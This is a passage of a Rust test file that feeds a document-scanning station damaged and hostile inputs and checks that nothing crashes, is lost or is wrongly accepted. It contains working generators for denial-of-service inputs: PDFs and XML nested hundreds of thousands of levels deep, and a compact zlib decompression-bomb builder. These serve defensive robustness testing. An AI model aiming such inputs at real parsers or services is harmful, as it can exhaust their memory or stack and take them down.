//! Hostile and broken input, as strangers produce it: damaged scans from
//! real scanners (cut short, flipped bytes, lying headers, decompression
//! bombs, multi-page files with one bad page), files that are no scan at
//! all, odd names from Windows shares, broken register exports (CSV),
//! malicious DMS replies (XML entity tricks), hot-folder entries that are
//! no plain files (links, pipes, devices, folders), and Office files with
//! macros, passwords, bombs and broken containers (converted for real by
//! LibreOffice when they pass, so a hang or a leftover process shows).
//!
//! Every kind goes through the station's real entry points (`take_file` and
//! `decode`, `register::parse_csv`, `xdomea::reply::parse`, `scanstelle
//! ingest`) with panics caught, time bounded and inputs that could abort the
//! process (deep nesting) run in a child process. A kind fails as a crash, a
//! lost file (neither stored, nor quarantined, nor left in place), a wrong
//! acceptance (damaged input taken) or as mishandled (English or empty
//! reason, a hang, a valid file refused). Kinds in [`KNOWN_DEFECTS`] expose
//! reported defects: they still run and are printed, but do not fail.
//!
//! `HOSTILE_DEBUG=1` prints every outcome, `HOSTILE_DUMP=<dir>` keeps every
//! input there to try by hand.

use crate::common;
use std::fmt::Write as _;

use common::*;
use scanstelle::classify::register::{ParsedRegister, parse_csv};
use scanstelle::intake::decode::decode;
use scanstelle::intake::{Outcome, take_file};
use scanstelle::package::xdomea::reply::{self, ObjectResult, Reply};
use scanstelle::prepare::coversheet::stream_object;
use scanstelle::store::blob::Sha256Hex;
use std::collections::{HashMap, HashSet};
use std::ffi::OsString;
use std::io::Read;
use std::os::unix::ffi::OsStringExt;
use std::os::unix::fs::OpenOptionsExt;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Stdio};
use std::sync::mpsc::{self, RecvTimeoutError};
use std::time::{Duration, Instant};

/// Kinds that expose a reported, not yet fixed defect: run and printed,
/// excluded from the zero assertions. Remove a name once it is handled.
const KNOWN_DEFECTS: &[&str] = &[];

/// Set in a child process of this test: run only the named input.
const PROBE_ENV: &str = "SCANSTELLE_HOSTILE_PROBE";
/// This test, as the child is told to run it.
const THIS_TEST: &str = "hostile::hostile_inputs_are_refused_safely_and_nothing_is_lost";
/// Longest any single input may take at one entry point.
const BUDGET: Duration = Duration::from_secs(10);

#[test]
fn hostile_inputs_are_refused_safely_and_nothing_is_lost() {
    if let Ok(name) = std::env::var(PROBE_ENV) {
        probe_child(&name);
        return;
    }
    let started = Instant::now();
    let dir = tempfile::tempdir().unwrap();
    let mut t = Tally::default();
    scanner_files(dir.path(), &mut t);
    registers(&mut t);
    replies(dir.path(), &mut t);
    reply_files(dir.path(), &mut t);
    hot_folder_entries(dir.path(), &mut t);
    office_files(dir.path(), &mut t);
    t.finish(started);
}

// ---------------------------------------------------------------------------
// Verdicts and the tally

#[derive(Debug, Clone)]
enum Verdict {
    Handled,
    Mishandled(String),
    WronglyAccepted(String),
    Lost(String),
    Crash(String),
}

impl std::fmt::Display for Verdict {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Verdict::Handled => write!(f, "handled"),
            Verdict::Mishandled(s) => write!(f, "mishandled: {s}"),
            Verdict::WronglyAccepted(s) => write!(f, "wrongly accepted: {s}"),
            Verdict::Lost(s) => write!(f, "lost: {s}"),
            Verdict::Crash(s) => write!(f, "crash: {s}"),
        }
    }
}

impl Verdict {
    fn rank(&self) -> u8 {
        match self {
            Verdict::Handled => 0,
            Verdict::Mishandled(_) => 1,
            Verdict::WronglyAccepted(_) => 2,
            Verdict::Lost(_) => 3,
            Verdict::Crash(_) => 4,
        }
    }

    /// The worse of two verdicts (the first one's text on a tie).
    fn worst(self, other: Verdict) -> Verdict {
        if other.rank() > self.rank() {
            other
        } else {
            self
        }
    }
}

/// Collects problems of one kind; the worst decides its verdict.
#[derive(Default)]
struct Problems(Vec<Verdict>);

impl Problems {
    fn mishandled(&mut self, s: impl Into<String>) {
        self.0.push(Verdict::Mishandled(s.into()));
    }
    fn wrong(&mut self, s: impl Into<String>) {
        self.0.push(Verdict::WronglyAccepted(s.into()));
    }
    fn lost(&mut self, s: impl Into<String>) {
        self.0.push(Verdict::Lost(s.into()));
    }
    fn crash(&mut self, s: impl Into<String>) {
        self.0.push(Verdict::Crash(s.into()));
    }
    fn verdict(self) -> Verdict {
        self.0.into_iter().fold(Verdict::Handled, Verdict::worst)
    }
}

#[derive(Default)]
struct Tally {
    kinds: Vec<(String, bool, Verdict)>,
    index: HashMap<String, usize>,
}

impl Tally {
    fn record(&mut self, name: &str, control: bool, v: Verdict) {
        assert!(
            !self.index.contains_key(name),
            "test bug: kind {name} twice"
        );
        self.index.insert(name.to_owned(), self.kinds.len());
        self.kinds.push((name.to_owned(), control, v));
    }

    /// Makes a recorded kind's verdict worse (checks made after all kinds).
    fn worsen(&mut self, name: &str, v: Verdict) {
        let i = self.index[name];
        let old = std::mem::replace(&mut self.kinds[i].2, Verdict::Handled);
        self.kinds[i].2 = old.worst(v);
    }

    fn finish(self, started: Instant) {
        let (mut tried, mut handled, mut crashes, mut lost, mut wrong) = (0, 0, 0, 0, 0);
        let (mut controls, mut controls_ok) = (0, 0);
        let mut failures = Vec::new();
        let mut known = Vec::new();
        for (name, control, v) in &self.kinds {
            if KNOWN_DEFECTS.contains(&name.as_str()) {
                known.push((name, v));
                continue;
            }
            if *control {
                controls += 1;
                if matches!(v, Verdict::Handled) {
                    controls_ok += 1;
                } else {
                    failures.push(format!("control {name}: {v}"));
                }
                continue;
            }
            tried += 1;
            match v {
                Verdict::Handled => handled += 1,
                Verdict::Crash(_) => crashes += 1,
                Verdict::Lost(_) => lost += 1,
                Verdict::WronglyAccepted(_) => wrong += 1,
                Verdict::Mishandled(_) => {}
            }
            if !matches!(v, Verdict::Handled) {
                failures.push(format!("{name}: {v}"));
            }
        }
        for f in &failures {
            println!("hostile: FAILED {f}");
        }
        for (name, v) in &known {
            match v {
                Verdict::Handled => println!("hostile: known defect {name} is handled now"),
                v => println!("hostile: known defect {name}: {v}"),
            }
        }
        let kb = peak_rss_kb();
        println!(
            "hostile: {} known defect(s) excluded, {controls_ok}/{controls} controls taken, {:.1} s, peak {kb} kB",
            known.len(),
            started.elapsed().as_secs_f64()
        );
        println!(
            "hostile: {tried} kinds tried, {handled} handled, {crashes} crashes, {lost} lost, {wrong} wrongly accepted"
        );
        assert!(
            tried + known.len() >= 110,
            "only {tried} kinds (+{} known defects)",
            known.len()
        );
        assert_eq!(crashes, 0, "crashes: {failures:#?}");
        assert_eq!(lost, 0, "lost: {failures:#?}");
        assert_eq!(wrong, 0, "wrongly accepted: {failures:#?}");
        assert_eq!(handled, tried, "mishandled: {failures:#?}");
        assert_eq!(controls_ok, controls, "controls: {failures:#?}");
        assert!(kb < 1_000_000, "peak memory {kb} kB");
    }
}

fn peak_rss_kb() -> u64 {
    vm_kb(
        &std::fs::read_to_string("/proc/self/status").unwrap(),
        "VmHWM:",
    )
    .unwrap()
}

/// `s` quoted and cut to 160 characters, for messages.
fn short(s: &str) -> String {
    let mut t: String = s.chars().take(160).collect();
    if t.len() < s.len() {
        t.push('…');
    }
    format!("{t:?}")
}

// ---------------------------------------------------------------------------
// Running an input with a time limit, panics caught

enum Fail {
    Panic(String),
    Timeout,
}

fn panic_text(p: &(dyn std::any::Any + Send)) -> String {
    p.downcast_ref::<&str>()
        .map(|s| (*s).to_owned())
        .or_else(|| p.downcast_ref::<String>().cloned())
        .unwrap_or_else(|| "panic without message".to_owned())
}

/// Runs `f` on its own thread; a hang is left behind (the thread is
/// detached) and reported as a timeout.
fn limited<T: Send + 'static>(
    budget: Duration,
    f: impl FnOnce() -> T + Send + 'static,
) -> Result<T, Fail> {
    let (tx, rx) = mpsc::channel();
    std::thread::Builder::new()
        .name("hostile-input".to_owned())
        .spawn(move || {
            let r = catch_unwind(AssertUnwindSafe(f)).map_err(|p| panic_text(&*p));
            let _ = tx.send(r);
        })
        .unwrap();
    match rx.recv_timeout(budget) {
        Ok(Ok(v)) => Ok(v),
        Ok(Err(p)) => Err(Fail::Panic(p)),
        Err(RecvTimeoutError::Timeout) => Err(Fail::Timeout),
        Err(RecvTimeoutError::Disconnected) => Err(Fail::Panic("thread died".to_owned())),
    }
}

/// Memory a child may take before it is stopped (the machine's, not the
/// station's limit: peak memory is judged by [`CHILD_PEAK_KB`]).
const CHILD_KILL_KB: u64 = 2_500_000;
/// Memory a child may need for one input.
const CHILD_PEAK_KB: u64 = 1_000_000;

/// Runs a child process with a time and memory limit; `Err` says why it
/// had to be killed.
fn run_child(mut cmd: Command, budget: Duration) -> Result<(ExitStatus, String, String), String> {
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let pipe = |mut r: Box<dyn Read + Send>| {
        std::thread::spawn(move || {
            let mut v = Vec::new();
            let _ = r.read_to_end(&mut v);
            String::from_utf8_lossy(&v).into_owned()
        })
    };
    let out = pipe(Box::new(child.stdout.take().unwrap()));
    let err = pipe(Box::new(child.stderr.take().unwrap()));
    let started = Instant::now();
    let status = format!("/proc/{}/status", child.id());
    let mut peak = 0;
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return Ok((status, out.join().unwrap(), err.join().unwrap()));
        }
        peak = std::fs::read_to_string(&status)
            .ok()
            .and_then(|s| vm_kb(&s, "VmHWM:"))
            .unwrap_or(0)
            .max(peak);
        let why = if started.elapsed() > budget {
            format!(
                "still running after {} s, {peak} kB so far",
                budget.as_secs()
            )
        } else if peak > CHILD_KILL_KB {
            format!("{peak} kB after {:.1} s", started.elapsed().as_secs_f64())
        } else {
            std::thread::sleep(Duration::from_millis(20));
            continue;
        };
        // Our own child, by its handle.
        let _ = child.kill();
        let _ = child.wait();
        return Err(format!("{why} (killed)"));
    }
}

fn vm_kb(status: &str, key: &str) -> Option<u64> {
    status
        .lines()
        .find_map(|l| l.strip_prefix(key))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
}

/// Whether the child exited by a signal or a Rust panic.
fn crashed(status: &ExitStatus, stderr: &str) -> Option<String> {
    use std::os::unix::process::ExitStatusExt;
    if let Some(sig) = status.signal() {
        return Some(format!("killed by signal {sig}: {}", short(stderr)));
    }
    if status.code() == Some(101) || stderr.contains("panicked") {
        return Some(format!("panic: {}", short(stderr)));
    }
    None
}

/// What a child process found (see [`isolated_probe`]).
struct Probe {
    decoded: DecodeSummary,
    peak_kb: u64,
}

/// Inputs that could overflow the stack (and so abort the whole test
/// binary), hang or take much memory are first tried in a child process
/// that reads only them from `path`: `entry` is `decode` or `xml`.
fn isolated_probe(entry: &str, path: &Path) -> Result<Probe, String> {
    let mut cmd = Command::new(std::env::current_exe().unwrap());
    cmd.args([THIS_TEST, "--exact", "--nocapture", "--test-threads=1"])
        .env(PROBE_ENV, format!("{entry}:{}", path.display()))
        .env("RUST_BACKTRACE", "0");
    let (status, out, err) = run_child(cmd, BUDGET)?;
    if let Some(c) = crashed(&status, &err) {
        return Err(c);
    }
    let field = |key: &str| {
        out.lines()
            .find_map(|l| l.split_once(key))
            .map(|(_, v)| v.to_owned())
    };
    let peak_kb = field("HOSTILE-PROBE hwm ")
        .and_then(|v| v.parse().ok())
        .ok_or_else(|| format!("child ended without result: {status}"))?;
    let decoded = if let Some(pages) = field("HOSTILE-PROBE ok ") {
        Ok(pages
            .split(',')
            .filter(|p| !p.is_empty())
            .map(|p| {
                let v: Vec<usize> = p.split('x').map(|n| n.parse().unwrap()).collect();
                (v[0] as u32, v[1] as u32, v[2])
            })
            .collect())
    } else {
        Err(field("HOSTILE-PROBE err ")
            .unwrap_or_default()
            .replace("\\n", "\n"))
    };
    Ok(Probe { decoded, peak_kb })
}

/// A child process that did not give a result: killed after its time, or
/// crashed.
fn probe_failed(p: &mut Problems, entry: &str, e: &str) {
    if e.contains("(killed)") {
        p.mishandled(format!("{entry} in a child process: {e}"));
    } else {
        p.crash(format!("{entry} in a child process: {e}"));
    }
}

fn probe_child(spec: &str) {
    let (entry, path) = spec.split_once(':').unwrap();
    let bytes = std::fs::read(path).unwrap();
    let result: Result<String, String> = if entry == "xml" {
        reply::parse(&bytes)
            .map(|_| String::new())
            .map_err(|e| e.to_string())
    } else {
        decode(&bytes)
            .map(|f| {
                f.pages
                    .iter()
                    .map(|p| format!("{}x{}x{}", p.width, p.height, p.bytes.len()))
                    .collect::<Vec<_>>()
                    .join(",")
            })
            .map_err(|e| e.to_string())
    };
    match result {
        Ok(pages) => println!("HOSTILE-PROBE ok {pages}"),
        Err(e) => println!("HOSTILE-PROBE err {}", e.replace('\n', "\\n")),
    }
    println!("HOSTILE-PROBE hwm {}", peak_rss_kb());
}

/// The inputs run isolated first (see [`isolated_probe`]).
fn isolated_input(name: &str) -> Vec<u8> {
    const DEPTH: usize = 200_000;
    match name {
        "pdf-deeply-nested-arrays" => pdf_from_objects(&[
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
            format!(
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots {}{} >>",
                "[".repeat(DEPTH),
                "]".repeat(DEPTH)
            )
            .into_bytes(),
        ]),
        "pdf-deeply-nested-dicts" => pdf_from_objects(&[
            format!(
                "<< /Type /Catalog /Pages 2 0 R /Extra {}{} >>",
                "<< /A ".repeat(DEPTH / 2),
                ">>".repeat(DEPTH / 2)
            )
            .into_bytes(),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_vec(),
        ]),
        "pdf-deeply-nested-content-arrays" => {
            let content = format!(
                "BT /F1 12 Tf 72 700 Td {}(x){} TJ ET q {} Q",
                "[".repeat(DEPTH),
                "]".repeat(DEPTH),
                "q ".repeat(DEPTH)
            );
            pdf_from_objects(&[
                b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>".to_vec(),
                b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_vec(),
                stream_object("", content.as_bytes()),
            ])
        }
        "xml-5mb-nested-elements" => {
            let depth = 5 * 1024 * 1024 / 7;
            let mut x = received_xml("4d2c7a50-0000-4000-8000-000000000001");
            let at = x.rfind("</xdomea:FVDaten").unwrap();
            x.insert_str(
                at,
                &format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth)),
            );
            x.into_bytes()
        }
        "xml-5mb-nested-in-kopf" => {
            let depth = 5 * 1024 * 1024 / 15;
            let x = received_xml("4d2c7a50-0000-4000-8000-000000000002").replacen(
                "<xdomea:Kopf>",
                &format!(
                    "<xdomea:Kopf>{}{}",
                    "<xdomea:Kopf>".repeat(depth),
                    "</xdomea:Kopf>".repeat(depth)
                ),
                1,
            );
            x.into_bytes()
        }
        other => panic!("test bug: no isolated input {other}"),
    }
}

// ---------------------------------------------------------------------------
// Reasons people read

/// Words that show a decoder's English text came through.
const ENGLISH: &[&str] = &[
    "failed",
    "failure",
    "fail",
    "unexpected",
    "invalid",
    "error",
    "errors",
    "exceeded",
    "exceeds",
    "the",
    "not",
    "is",
    "are",
    "was",
    "of",
    "and",
    "with",
    "without",
    "while",
    "expected",
    "found",
    "unsupported",
    "unknown",
    "decode",
    "decoding",
    "decoder",
    "corrupt",
    "corrupted",
    "missing",
    "too",
    "large",
    "overflow",
    "bounds",
    "panicked",
    "reached",
    "could",
    "cannot",
    "unable",
    "malformed",
    "truncated",
    "reading",
    "unrecognized",
    "end",
    "data",
    "file",
    "image",
    "page",
    "pages",
    "length",
    "width",
    "height",
    "wrong",
    "bad",
    "no",
    "at",
    "for",
    "to",
    "or",
    "out",
    "should",
    "must",
    "only",
    "from",
];

/// Words that show a reason is written in German.
const GERMAN: &[&str] = &[
    "die",
    "der",
    "das",
    "den",
    "dem",
    "des",
    "ist",
    "sind",
    "nicht",
    "kein",
    "keine",
    "keinen",
    "keiner",
    "datei",
    "seite",
    "seiten",
    "ein",
    "eine",
    "einen",
    "einer",
    "und",
    "oder",
    "mit",
    "ohne",
    "zu",
    "zum",
    "zur",
    "bei",
    "von",
    "vom",
    "im",
    "auf",
    "aus",
    "als",
    "nur",
    "noch",
    "mehr",
    "wird",
    "wurde",
    "kann",
    "lesen",
    "gelesen",
    "lesbar",
    "unlesbar",
    "leer",
    "fehlt",
    "zeile",
    "spalte",
    "wert",
    "zeichen",
    "lang",
    "bild",
    "bilddaten",
    "daten",
    "endet",
    "vorzeitig",
    "erwartet",
    "speicher",
    "passwort",
    "doppelt",
    "statt",
    "hat",
];

/// What is wrong with a reason shown to people, if anything.
fn reason_problem(reason: &str, max_chars: usize, no_controls: bool) -> Option<String> {
    if reason.trim().is_empty() {
        return Some("empty reason".to_owned());
    }
    let n = reason.chars().count();
    if n > max_chars {
        return Some(format!("reason of {n} characters: {}", short(reason)));
    }
    if no_controls && reason.chars().any(char::is_control) {
        return Some(format!("control characters in reason {}", short(reason)));
    }
    let words: Vec<String> = reason
        .split(|c: char| !c.is_alphanumeric())
        .filter(|w| !w.is_empty())
        .map(str::to_lowercase)
        .collect();
    if let Some(w) = words.iter().find(|w| ENGLISH.contains(&w.as_str())) {
        return Some(format!("English word {w:?} in reason {}", short(reason)));
    }
    let german = words
        .iter()
        .any(|w| GERMAN.contains(&w.as_str()) || w.contains(['ä', 'ö', 'ü', 'ß']));
    if !german {
        return Some(format!("no German in reason {}", short(reason)));
    }
    None
}

// ---------------------------------------------------------------------------
// Byte helpers

fn be16(b: &[u8], at: usize) -> usize {
    usize::from(u16::from_be_bytes([b[at], b[at + 1]]))
}
fn be32(b: &[u8], at: usize) -> usize {
    u32::from_be_bytes(b[at..at + 4].try_into().unwrap()) as usize
}
fn le16(b: &[u8], at: usize) -> usize {
    usize::from(u16::from_le_bytes([b[at], b[at + 1]]))
}
fn le32(b: &[u8], at: usize) -> usize {
    u32::from_le_bytes(b[at..at + 4].try_into().unwrap()) as usize
}
fn put_be16(b: &mut [u8], at: usize, v: u16) {
    b[at..at + 2].copy_from_slice(&v.to_be_bytes());
}
fn put_be32(b: &mut [u8], at: usize, v: u32) {
    b[at..at + 4].copy_from_slice(&v.to_be_bytes());
}
fn put_le16(b: &mut [u8], at: usize, v: u16) {
    b[at..at + 2].copy_from_slice(&v.to_le_bytes());
}
fn put_le32(b: &mut [u8], at: usize, v: u32) {
    b[at..at + 4].copy_from_slice(&v.to_le_bytes());
}

fn rfind(hay: &[u8], needle: &[u8]) -> Option<usize> {
    hay.windows(needle.len()).rposition(|w| w == needle)
}

fn cat(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

/// `b` with `f` applied to a copy.
fn patched(b: &[u8], f: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    let mut v = b.to_vec();
    f(&mut v);
    v
}

/// The first `keep` bytes, then zeros to the full length: what a Windows
/// share shows of a file still being copied.
fn preallocated(b: &[u8], keep: usize) -> Vec<u8> {
    let mut v = b[..keep].to_vec();
    v.resize(b.len(), 0);
    v
}

/// (marker, offset of its 0xFF) of every JPEG segment up to the scan.
fn jpeg_segments(b: &[u8]) -> Vec<(u8, usize)> {
    let mut v = Vec::new();
    let mut i = 2;
    while i + 4 <= b.len() && b[i] == 0xFF {
        let m = b[i + 1];
        v.push((m, i));
        if m == 0xDA {
            break;
        }
        i += 2 + be16(b, i + 2);
    }
    v
}
fn jpeg_seg(b: &[u8], marker: u8) -> usize {
    jpeg_segments(b)
        .iter()
        .find(|s| s.0 == marker)
        .unwrap_or_else(|| panic!("test bug: no JPEG marker {marker:02X}"))
        .1
}
fn jpeg_without(b: &[u8], marker: u8) -> Vec<u8> {
    let mut v = b.to_vec();
    while let Some(&(_, at)) = jpeg_segments(&v).iter().find(|s| s.0 == marker) {
        let len = be16(&v, at + 2);
        v.drain(at..at + 2 + len);
    }
    v
}
/// Offset of the first entropy-coded byte.
fn jpeg_scan_start(b: &[u8]) -> usize {
    let sos = jpeg_seg(b, 0xDA);
    sos + 2 + be16(b, sos + 2)
}

/// (type, offset of its length field, data length) of every PNG chunk.
fn png_chunks(b: &[u8]) -> Vec<([u8; 4], usize, usize)> {
    let mut v = Vec::new();
    let mut i = 8;
    while i + 12 <= b.len() {
        let len = be32(b, i);
        v.push((b[i + 4..i + 8].try_into().unwrap(), i, len));
        i += 12 + len;
    }
    v
}
fn png_chunk_at(b: &[u8], typ: &[u8; 4]) -> (usize, usize) {
    png_chunks(b)
        .into_iter()
        .find(|c| &c.0 == typ)
        .map(|c| (c.1, c.2))
        .unwrap()
}
fn png_refresh_crc(b: &mut [u8], at: usize) {
    let len = be32(b, at);
    let crc = crc32(&b[at + 4..at + 8 + len]);
    put_be32(b, at + 8 + len, crc);
}
fn png_chunk(typ: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut v = (data.len() as u32).to_be_bytes().to_vec();
    v.extend_from_slice(typ);
    v.extend_from_slice(data);
    let crc = crc32(&v[4..]);
    v.extend_from_slice(&crc.to_be_bytes());
    v
}
/// The PNG with its IHDR data (13 bytes at 16) changed and its CRC right.
fn png_ihdr(b: &[u8], f: impl FnOnce(&mut [u8])) -> Vec<u8> {
    patched(b, |v| {
        f(&mut v[16..29]);
        png_refresh_crc(v, 8);
    })
}
/// A PNG made of a white 1-bit image, written row by row (never whole in
/// memory): a few hundred kB on disk.
fn white_bilevel_png(w: u32, h: u32) -> Vec<u8> {
    let mut out = Vec::new();
    {
        let mut enc = png::Encoder::new(&mut out, w, h);
        enc.set_color(png::ColorType::Grayscale);
        enc.set_depth(png::BitDepth::One);
        enc.set_compression(png::Compression::Fast);
        let mut header = enc.write_header().unwrap();
        let mut wr = header.stream_writer().unwrap();
        let row = vec![0xFFu8; w.div_ceil(8) as usize];
        for _ in 0..h {
            std::io::Write::write_all(&mut wr, &row).unwrap();
        }
        wr.finish().unwrap();
    }
    out
}
/// A zlib stream of `n` times `byte` (one fixed-Huffman block: the byte,
/// then matches of 258 at distance 1), about 1/1300 of `n`.
fn zlib_run(byte: u8, n: usize) -> Vec<u8> {
    let mut out = vec![0x78, 0x01];
    let (mut acc, mut bits) = (0u64, 0u32);
    let mut put = |out: &mut Vec<u8>, code: u32, len: u32| {
        // Huffman codes go most significant bit first.
        for i in (0..len).rev() {
            acc |= u64::from((code >> i) & 1) << bits;
            bits += 1;
        }
        while bits >= 8 {
            out.push(acc as u8);
            acc >>= 8;
            bits -= 8;
        }
    };
    put(&mut out, 0b110, 3); // BFINAL=1, then BTYPE=01 least significant bit first
    let literal = |b: u8| -> (u32, u32) {
        if b < 144 {
            (0x30 + u32::from(b), 8)
        } else {
            (0x190 + u32::from(b) - 144, 9)
        }
    };
    let (c, l) = literal(byte);
    put(&mut out, c, l);
    let mut left = n - 1;
    while left >= 258 {
        put(&mut out, 0xC5, 8); // length 258 (symbol 285)
        put(&mut out, 0, 5); // distance 1
        left -= 258;
    }
    for _ in 0..left {
        put(&mut out, c, l);
    }
    put(&mut out, 0, 7); // end of block
    put(&mut out, 0, 7); // flush the last bits
    let (mut a, mut b) = (1u64, 0u64);
    for _ in 0..n {
        a = (a + u64::from(byte)) % 65521;
        b = (b + a) % 65521;
    }
    out.extend_from_slice(&(((b << 16) | a) as u32).to_be_bytes());
    out
}

/// The zlib stream inside a PNG (its IDAT chunks joined).
fn png_zlib(b: &[u8]) -> Vec<u8> {
    png_chunks(b)
        .into_iter()
        .filter(|c| &c.0 == b"IDAT")
        .flat_map(|c| b[c.1 + 8..c.1 + 8 + c.2].to_vec())
        .collect()
}

/// Offsets of the IFDs of a little-endian TIFF (stops at loops and EOF).
fn tiff_ifds(b: &[u8]) -> Vec<usize> {
    let mut v = Vec::new();
    let mut off = le32(b, 4);
    while off != 0 && off + 2 <= b.len() && !v.contains(&off) {
        v.push(off);
        let next = tiff_next_field(b, off);
        if next + 4 > b.len() {
            break;
        }
        off = le32(b, next);
    }
    v
}
fn tiff_next_field(b: &[u8], ifd: usize) -> usize {
    ifd + 2 + 12 * le16(b, ifd)
}
fn tiff_entry(b: &[u8], ifd: usize, tag: u16) -> usize {
    (0..le16(b, ifd))
        .map(|i| ifd + 2 + 12 * i)
        .find(|&e| le16(b, e) == usize::from(tag))
        .unwrap_or_else(|| panic!("test bug: no TIFF tag {tag}"))
}
/// Offsets of each value of a SHORT/LONG entry, and the value size.
fn tiff_values(b: &[u8], ifd: usize, tag: u16) -> (Vec<usize>, usize) {
    let e = tiff_entry(b, ifd, tag);
    let size = if le16(b, e + 2) == 3 { 2 } else { 4 };
    let count = le32(b, e + 4);
    let start = if count * size <= 4 {
        e + 8
    } else {
        le32(b, e + 8)
    };
    ((0..count).map(|i| start + i * size).collect(), size)
}
fn tiff_set_all(b: &mut [u8], ifd: usize, tag: u16, value: u32) {
    let (at, size) = tiff_values(b, ifd, tag);
    for a in at {
        if size == 2 {
            put_le16(b, a, value as u16);
        } else {
            put_le32(b, a, value);
        }
    }
}
fn tiff_get(b: &[u8], ifd: usize, tag: u16) -> Vec<usize> {
    let (at, size) = tiff_values(b, ifd, tag);
    at.into_iter()
        .map(|a| if size == 2 { le16(b, a) } else { le32(b, a) })
        .collect()
}
/// Overwrites the strips of one page with `f`'s bytes.
fn tiff_strips(b: &mut [u8], ifd: usize, mut f: impl FnMut(&mut [u8])) {
    let offs = tiff_get(b, ifd, 273);
    let lens = tiff_get(b, ifd, 279);
    for (o, l) in offs.into_iter().zip(lens) {
        f(&mut b[o..o + l]);
    }
}

const DCT_GRAY: &str = "/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode";

/// The objects of a scanner PDF, one image per page (as
/// [`common::image_pdf`] writes them): 1 catalog, 2 pages, then per page
/// its page, content and image.
fn image_objects(images: &[(u32, u32, String, Vec<u8>)]) -> Vec<Vec<u8>> {
    let images: Vec<(u32, u32, &str, Vec<u8>)> = images
        .iter()
        .map(|(w, h, dict, data)| (*w, *h, dict.as_str(), data.clone()))
        .collect();
    image_pdf_objects(&images, 300.0)
}

/// A one-page PDF whose page dictionary has `page_extra` and whose content
/// stream is `content` (Helvetica as /F1).
fn page_pdf(page_extra: &str, content: &[u8]) -> Vec<u8> {
    pdf_from_objects(&[
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        format!(
            "<< /Type /Page /Parent 2 0 R {page_extra} /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>"
        )
        .into_bytes(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>".to_vec(),
        stream_object("", content),
    ])
}

fn text_content(line: &str) -> Vec<u8> {
    format!("BT /F1 14 Tf 72 760 Td ({line}) Tj ET").into_bytes()
}

/// A PDF with `extra` added to its trailer dictionary.
fn with_trailer(pdf: &[u8], extra: &str) -> Vec<u8> {
    let at = rfind(pdf, b"/Root 1 0 R").unwrap();
    let mut v = pdf[..at].to_vec();
    v.extend_from_slice(extra.as_bytes());
    v.push(b' ');
    v.extend_from_slice(&pdf[at..]);
    v
}

fn received_xml(pid: &str) -> String {
    reply::write_received(pid, time::OffsetDateTime::UNIX_EPOCH)
}

// ---------------------------------------------------------------------------
// Scanner files

#[derive(Clone, Copy, Debug, PartialEq)]
enum Expect {
    /// Damaged: must be quarantined (or be a duplicate of such a file).
    Refuse,
    /// Valid: must be taken with this many pages.
    Accept(usize),
    /// Odd but possibly fine: either way, only without crash or loss.
    Either,
    /// Either way, but if taken then with exactly this many pages.
    EitherPages(usize),
    /// The same content as an earlier file: must be reported as a duplicate.
    Duplicate,
}

struct Scan {
    name: String,
    file: OsString,
    bytes: Vec<u8>,
    expect: Expect,
    control: bool,
    isolate: bool,
    /// Same bytes as an earlier kind, on purpose.
    repeat: bool,
}

struct Scans {
    list: Vec<Scan>,
    seed: u32,
}

impl Scans {
    fn seed(&mut self) -> u32 {
        self.seed += 7;
        self.seed
    }
    fn push(&mut self, name: &str, file: OsString, bytes: Vec<u8>, expect: Expect) -> &mut Scan {
        self.list.push(Scan {
            name: name.to_owned(),
            file,
            bytes,
            expect,
            control: false,
            isolate: false,
            repeat: false,
        });
        self.list.last_mut().unwrap()
    }
    fn add(&mut self, name: &str, ext: &str, bytes: Vec<u8>, expect: Expect) {
        self.push(name, format!("{name}.{ext}").into(), bytes, expect);
    }
    fn refuse(&mut self, name: &str, ext: &str, bytes: Vec<u8>) {
        self.add(name, ext, bytes, Expect::Refuse);
    }
    fn either(&mut self, name: &str, ext: &str, bytes: Vec<u8>) {
        self.add(name, ext, bytes, Expect::Either);
    }
    fn control(&mut self, name: &str, ext: &str, bytes: Vec<u8>, pages: usize) {
        self.push(
            name,
            format!("{name}.{ext}").into(),
            bytes,
            Expect::Accept(pages),
        )
        .control = true;
    }
    fn isolated(&mut self, name: &str, expect: Expect) {
        self.add(name, "pdf", isolated_input(name), expect);
        self.heavy();
    }
    /// The last kind is decoded in a child process first.
    fn heavy(&mut self) {
        self.list.last_mut().unwrap().isolate = true;
    }
    /// A valid one-page PNG, unique to this call.
    fn valid_png(&mut self) -> Vec<u8> {
        let s = self.seed();
        png_page(120, 170, s, 300)
    }
}

fn scan_kinds() -> Vec<Scan> {
    let mut k = Scans {
        list: Vec::new(),
        seed: 100,
    };
    let debug = std::env::var_os("HOSTILE_DEBUG").is_some();
    let mark = |what: &str| {
        if debug {
            println!("hostile: generated {what}, peak {} kB", peak_rss_kb());
        }
    };
    let s = k.seed();
    k.control("control-png", "png", png_page(200, 280, s, 300), 1);
    let s = k.seed();
